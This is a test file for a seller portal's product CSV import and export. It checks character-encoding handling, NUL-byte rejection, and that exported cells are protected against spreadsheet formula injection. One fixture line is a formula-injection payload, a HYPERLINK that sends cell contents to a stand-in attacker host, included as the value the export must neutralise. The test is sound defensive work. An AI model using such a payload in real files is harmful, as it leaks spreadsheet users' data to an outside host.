import iconv from "iconv-lite";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "../../app/infra/db.server";
import { loader as exportLoader } from "../../app/routes/seller.products.export[.]csv";
import { action as importAction } from "../../app/routes/seller.products.import";
import { loader as templateLoader } from "../../app/routes/seller.products.template[.]csv";
import { aProduct, leafCategory } from "../factories/products";
import { aSeller } from "../factories/shops";
import { cookieFor } from "../factories/users";
import { call, getRequest, payload, postForm } from "../setup/http";

// Finding 11 of issue 8 (CSV injection, Windows-1252 uploads) and the NUL byte of finding 7.

type Seller = Awaited<ReturnType<typeof aSeller>>;
const HEADER = "judul,deskripsi,kategori,kondisi,harga,stok,berat_gram";

beforeAll(async () => {
  await leafCategory("gamis-polos"); // the category tree exists
});

async function shop() {
  const seller = await aSeller({ status: "approved" });
  return { seller, cookie: await cookieFor(seller.owner.id) };
}

function fileForm(intent: string, body: Uint8Array | string) {
  const form = new FormData();
  form.append("intent", intent);
  form.append("file", new Blob([typeof body === "string" ? body : new Uint8Array(body)], { type: "text/csv" }), "produk.csv");
  return form;
}

async function titlesOf(seller: Seller) {
  return (await db().product.findMany({ where: { shopId: seller.shop.id }, orderBy: { title: "asc" } })).map((p) => p.title);
}

async function previewAndSave(cookie: string, body: Uint8Array | string) {
  const preview = await call(importAction, postForm("/seller/products/import", fileForm("preview", body), { cookie }));
  const { csv, preview: result } = payload<{ csv: string; preview: { rows: { title: string | null; errors: { field: string; code: string }[] }[] } }>(preview.result);
  const form = new FormData();
  form.append("intent", "save");
  form.append("csv", csv);
  const saved = await call(importAction, postForm("/seller/products/import", form, { cookie }));
  return { preview: result, saved };
}

describe("CSV upload encodings", () => {
  let a: Awaited<ReturnType<typeof shop>>;
  beforeAll(async () => {
    a = await shop();
  });

  it("reads a file Excel saved in Windows-1252 as the text the seller typed", async () => {
    const text = [HEADER, "Kopi Aceh Gayo – 250 gr,Biji kopi sangrai,gamis-polos,baru,85000,10,300", "Kerupuk Udang Sidoarjo é,Renyah,gamis-polos,baru,25000,10,250"].join("\r\n");
    const bytes = iconv.encode(text, "windows-1252");
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toThrow(); // really not UTF-8
    const { preview, saved } = await previewAndSave(a.cookie, bytes);
    expect(preview.rows.map((r) => r.title)).toEqual(["Kopi Aceh Gayo – 250 gr", "Kerupuk Udang Sidoarjo é"]);
    expect(saved.headers.get("Location")).toBe("/seller/products/import?disimpan=2&dilewati=0");
    expect(await titlesOf(a.seller)).toEqual(["Kerupuk Udang Sidoarjo é", "Kopi Aceh Gayo – 250 gr"]);
  });

  it("still reads UTF-8 with a byte order mark", async () => {
    const b = await shop();
    const bytes = new TextEncoder().encode(`\uFEFF${HEADER}\r\nKopi Aceh Gayo – 250 gr,,gamis-polos,baru,85000,10,300\r\n`);
    const { saved } = await previewAndSave(b.cookie, bytes);
    expect(saved.headers.get("Location")).toBe("/seller/products/import?disimpan=1&dilewati=0");
    expect(await titlesOf(b.seller)).toEqual(["Kopi Aceh Gayo – 250 gr"]);
  });

  it("flags a row with a NUL byte in the preview and saves the other rows (no 500, nothing rolled back)", async () => {
    const c = await shop();
    const text = [HEADER, "Gamis Hitam Nol\0Byte,,gamis-polos,baru,85000,10,300", "Gamis Putih Bersih,Des\0kripsi,gamis-polos,baru,85000,10,300", "Gamis Biru Laut,,gamis-polos,baru,85000,10,300"].join("\r\n");
    const { preview, saved } = await previewAndSave(c.cookie, text);
    expect(preview.rows[0].errors).toEqual([{ field: "judul", code: "csv_text_invalid" }]);
    expect(preview.rows[1].errors).toEqual([{ field: "deskripsi", code: "csv_text_invalid" }]);
    expect(saved.status).toBe(302);
    expect(saved.headers.get("Location")).toBe("/seller/products/import?disimpan=1&dilewati=2");
    expect(await titlesOf(c.seller)).toEqual(["Gamis Biru Laut"]);
  });
});

describe("CSV the portal writes", () => {
  it("neutralises a product title that a spreadsheet would run as a formula, and the file imports back as it was", async () => {
    const { seller, cookie } = await shop();
    const title = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
    await aProduct(seller.owner, { title, description: "-2+3 adalah lima", price: 45000 });
    const res = await call(exportLoader, getRequest("/seller/products/export.csv", { cookie }));
    const response = res.result as Response;
    expect(response.headers.get("Content-Type")).toMatch(/^text\/csv/);
    const csv = await response.text();
    const [header, row] = Papa.parse<string[]>(csv.trim()).data;
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell("judul")).toBe(`'${title}`);
    expect(cell("deskripsi")).toBe("'-2+3 adalah lima");
    expect(cell("harga")).toBe("45000");
    // No cell of the export starts with a formula character.
    for (const r of Papa.parse<string[]>(csv.trim()).data) for (const v of r) expect(v).not.toMatch(/^[=+\-@\t\r]/);

    // A seller who edits the export and uploads it again gets the same title back, not one with an apostrophe.
    const again = await shop();
    const { saved } = await previewAndSave(again.cookie, csv);
    expect(saved.headers.get("Location")).toBe("/seller/products/import?disimpan=1&dilewati=0");
    expect(await titlesOf(again.seller)).toEqual([title]);
  });

  it("writes the template through the same writer", async () => {
    const { cookie } = await shop();
    const res = await call(templateLoader, getRequest("/seller/products/template.csv", { cookie }));
    expect((await (res.result as Response).text()).split("\r\n")[0]).toBe("judul,deskripsi,kategori,kondisi,harga,stok,sku,min_pembelian,berat_gram,panjang_cm,lebar_cm,tinggi_cm");
  });
});
